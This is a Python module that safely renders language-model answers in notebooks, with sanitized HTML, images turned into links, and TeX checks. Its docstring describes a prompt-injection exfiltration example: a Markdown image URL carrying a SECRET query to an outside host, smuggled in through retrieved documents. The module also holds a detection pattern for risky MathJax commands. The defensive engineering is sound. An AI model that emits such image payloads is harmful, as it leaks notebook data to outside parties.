"""Safe rendering of model text for notebooks: MIME bundles for answers, footers, citations, tables.

Whatever a model writes, or a retrieved document smuggles into an answer, must not run in the notebook, and
must not fetch anything either: Markdown is rendered with raw HTML disabled (it shows as text), then every
fragment passes an allow-list sanitizer (bleach) that drops script/style/iframe/form/svg elements, every
``on*`` and ``style`` attribute and any link whose protocol is not http, https or mailto. An image becomes a
link to it, because a browser fetches an image the moment it is drawn, and a prompt-injected
``![](https://x/?q=SECRET)`` would carry notebook data out unasked. ``-f html`` gets the sanitizer alone;
``-f math`` refuses the TeX commands that link, load or style (MathJax would fetch a CSS ``url(...)``) and
shows such an answer as text. Nothing here imports IPython; markdown-it and bleach load on the first render,
not at ``%load_ext``.
"""

from __future__ import annotations

import functools
import html
import json
import re
from typing import TYPE_CHECKING, Any, Mapping, Sequence

if TYPE_CHECKING:
    from ..chat.reply import Reply
    from ..core.progress import Progress

FORMATS = ("markdown", "md", "text", "code", "json", "html", "math")
MIME = "text/html"

_TAGS = frozenset({
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2",
    "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub",
    "summary", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
})
_ATTRIBUTES = {"a": ["href", "title"], "img": ["src", "alt", "title"], "td": ["align"], "th": ["align"],
               "code": ["class"], "ol": ["start"]}
_PROTOCOLS = frozenset({"http", "https", "mailto"})
_FENCE = re.compile(r"```[^\n`]*\n(.*?)(?:```|\Z)", re.S)
#: TeX commands with which MathJax links (href, url), loads extensions (require), sets CSS that may fetch a
#: ``url(...)`` (style, bbox, class, cssId, mmlToken, enclose), or defines macros that could hide them.
_UNSAFE_TEX = re.compile(r"\\(?:href|url|style|class|cssId|data|bbox|enclose|mmlToken|require|unicode|"
                         r"includegraphics|def|let|edef|gdef|csname|newcommand|renewcommand|newenvironment|"
                         r"renewenvironment|DeclareMathOperator)(?![A-Za-z])")


def sanitize(fragment: str) -> str:
    """An HTML fragment with only harmless elements, attributes and link protocols left, and every image
    turned into a link to it (nothing is fetched until the reader clicks)."""
    return _cleaner().clean(fragment)


@functools.cache
def _cleaner() -> Any:
    import bleach
    from bleach.html5lib_shim import Filter

    class ImagesAsLinks(Filter):
        """``<img src=U alt=A>`` (already sanitized) → ``<a href=U>[image: A]</a>``; no src: the text alone."""

        def __iter__(self) -> Any:
            for token in super().__iter__():
                if token.get("name") != "img":
                    yield token
                    continue
                attrs = token.get("data") or {}
                src, alt = attrs.get((None, "src")), attrs.get((None, "alt"))
                label = {"type": "Characters", "data": f"[image: {alt}]" if alt else "[image]"}
                if src:
                    yield {"type": "StartTag", "name": "a", "namespace": None,
                           "data": {(None, "href"): src, (None, "title"): src}}
                    yield label
                    yield {"type": "EndTag", "name": "a", "namespace": None}
                else:
                    yield label

    return bleach.Cleaner(tags=_TAGS, attributes=_ATTRIBUTES, protocols=_PROTOCOLS, strip=True,
                          strip_comments=True, filters=[ImagesAsLinks])


def markdown_html(text: str) -> str:
    """Markdown → safe HTML. Raw HTML in the text is shown as text, never interpreted."""
    from markdown_it import MarkdownIt

    return sanitize(MarkdownIt("commonmark", {"html": False}).enable("table").render(text))


def pre(text: str) -> str:
    return f"<pre style='white-space: pre-wrap'>{html.escape(text)}</pre>"


def extract_code(text: str) -> str:
    """The code of an answer: its fenced blocks joined, or the whole text when it has no fence."""
    blocks = [b.rstrip() for b in _FENCE.findall(text)]
    return "\n\n".join(blocks) if blocks else text.strip()


def body(text: str, fmt: str) -> dict[str, Any]:
    """The MIME bundle of an answer's text in format ``fmt`` (``text/plain`` always included)."""
    bundle: dict[str, Any] = {"text/plain": text}
    if fmt in ("markdown", "md"):
        bundle[MIME] = markdown_html(text)
    elif fmt == "html":
        bundle[MIME] = sanitize(text)
    elif fmt == "code":
        bundle[MIME] = pre(extract_code(text))
    elif fmt == "math":
        tex = extract_code(text).strip().strip("$")
        if _UNSAFE_TEX.search(tex):
            bundle[MIME] = pre(text) + ("<p><em>(shown as text: the formula uses TeX commands that could link, "
                                        "load or style)</em></p>")
        else:
            bundle["text/latex"] = f"$$\n{tex}\n$$"
    elif fmt == "json":
        try:
            bundle["application/json"] = json.loads(extract_code(text))
        except ValueError:
            bundle[MIME] = pre(text) + "<p><em>(the answer is not valid JSON)</em></p>"
    else:
        bundle[MIME] = pre(text)
    return bundle


def footer_text(reply: "Reply") -> str:
    """model (on base) · tokens in/out · first token · tok/s · context used / window, for one answer."""
    m = reply.metrics
    parts = [reply.model + (f" on {m['base']}" if m.get("base") else "")]
    if m.get("prompt_tokens") is not None:
        parts.append(f"{m['prompt_tokens']} tokens in, {m.get('completion_tokens')} out")
    if m.get("ttft_s") is not None:
        parts.append(f"first token {m['ttft_s'] * 1000:.0f} ms")
    if m.get("tokens_per_s"):
        parts.append(f"{m['tokens_per_s']:.1f} tok/s")
    if m.get("context_used") is not None:
        parts.append(f"context {m['context_used']}/{m.get('max_model_len') or '?'}")
    if m.get("trimmed_turns"):
        parts.append(f"{m['trimmed_turns']} old turn(s) dropped to fit")
    if m.get("dropped_chunks"):
        parts.append(f"{m['dropped_chunks']} retrieved chunk(s) did not fit")
    if reply.cancelled:
        parts.append("stopped")
    return " · ".join(parts)


def citations_text(citations: Sequence[Mapping[str, Any]]) -> str:
    return "\n".join(f"[{c['n']}] {c['source']}" + (f" ({c['location']})" if c["location"] else "")
                     for c in citations)


def citations_html(citations: Sequence[Mapping[str, Any]]) -> str:
    if not citations:
        return ""
    items = "".join(f"<li value='{int(c['n'])}'><code>{html.escape(c['source'])}</code>"
                    + (f" — {html.escape(c['location'])}" if c["location"] else "") + "</li>" for c in citations)
    return f"<ol class='sage-citations' style='font-size: 0.9em'>{items}</ol>"


def _footer_html(reply: "Reply") -> str:
    return f"<div class='sage-footer' style='color: #777; font-size: 0.85em'>{html.escape(footer_text(reply))}</div>"


def answer(reply: "Reply", fmt: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """The final bundle and metadata of one answer: body, a "stopped" mark, citations, footer, provenance.

    JSON and math keep their own MIME type as the only rich one (a front end would prefer an HTML part and
    hide them), so their citations and footer come from :func:`footer` as a second output.
    """
    bundle = body(reply.text, fmt)
    if MIME in bundle:
        bundle[MIME] += footer(reply)[MIME]
    bundle["text/plain"] = reply.text + "\n\n" + footer(reply)["text/plain"]
    return bundle, {"sage": reply.provenance()}


def footer(reply: "Reply") -> dict[str, Any]:
    """The "stopped" mark, the numbered citations and the figures line under an answer."""
    stopped = "<p><strong>(stopped: partial answer)</strong></p>" if reply.cancelled else ""
    plain = [p for p in ("[stopped]" if reply.cancelled else "", citations_text(reply.citations),
                         f"({footer_text(reply)})") if p]
    return {"text/plain": "\n".join(plain), MIME: stopped + citations_html(reply.citations) + _footer_html(reply)}


def streaming(text: str, label: str = "") -> dict[str, Any]:
    """The bundle shown while an answer streams in: escaped text and a cursor."""
    head = f"<div style='color: #777; font-size: 0.85em'>{html.escape(label)}</div>" if label else ""
    return {"text/plain": text, MIME: head + pre(text + "▍")}


def progress(event: "Progress", elapsed: float, width: int = 24) -> dict[str, Any]:
    """Phase, bar and elapsed time while a model merges or a server starts."""
    line = f"{event.phase}: {event.message} ({elapsed:.0f} s)"
    if event.fraction is None:
        bar_html = "<progress style='width: 12em'></progress>"
        bar_text = ""
    else:
        fraction = max(0.0, min(1.0, event.fraction))
        bar_html = f"<progress style='width: 12em' value='{fraction:.3f}' max='1'></progress>"
        filled = int(round(width * fraction))
        bar_text = f"[{'#' * filled}{'.' * (width - filled)}] "
    return {"text/plain": bar_text + line, MIME: f"<div>{bar_html} {html.escape(line)}</div>"}


def compare(names: Sequence[str], texts: Mapping[str, str], replies: Sequence["Reply"] | None = None,
            fmt: str = "markdown") -> dict[str, Any]:
    """Answers side by side: one column per model, streaming (``replies`` None) or final with footers."""
    done = dict(zip(names, replies)) if replies else {}
    heads = "".join(f"<th style='text-align: left'>{html.escape(n)}</th>" for n in names)
    cells = []
    for name in names:
        reply = done.get(name)
        if reply is None:
            cells.append(pre(texts.get(name, "") + "▍"))
        else:
            cells.append((markdown_html(reply.text) if fmt in ("markdown", "md") else pre(reply.text))
                         + _footer_html(reply))
    row = "".join(f"<td style='vertical-align: top; text-align: left'>{c}</td>" for c in cells)
    plain = "\n\n".join(f"== {n}\n{done[n].text if n in done else texts.get(n, '')}" for n in names)
    return {"text/plain": plain, MIME: f"<table class='sage-compare'><tr>{heads}</tr><tr>{row}</tr></table>"}


def table(rows: Sequence[Sequence[object]], headers: Sequence[str], empty: str) -> dict[str, Any]:
    """A table as HTML for notebooks and aligned plain text for terminals (`%sage status`, `models`...)."""
    if not rows:
        return {"text/plain": empty, MIME: f"<p>{html.escape(empty)}</p>"}
    from ..faces.text import table as text_table

    head = "".join(f"<th>{html.escape(str(h))}</th>" for h in headers)
    body_rows = "".join("<tr>" + "".join(f"<td>{html.escape(str(c))}</td>" for c in r) + "</tr>" for r in rows)
    return {"text/plain": text_table(rows, headers), MIME: f"<table><tr>{head}</tr>{body_rows}</table>"}


def details(summary: str, text: str) -> str:
    """A collapsed block (HTML ``<details>``): a long list stays one line until the reader opens it."""
    return f"<details><summary>{html.escape(summary)}</summary><p>{html.escape(text)}</p></details>"


def error(message: str) -> dict[str, Any]:
    return {"text/plain": message,
            MIME: f"<div class='sage-error' style='color: #b00'><strong>sage:</strong> {html.escape(message)}</div>"}
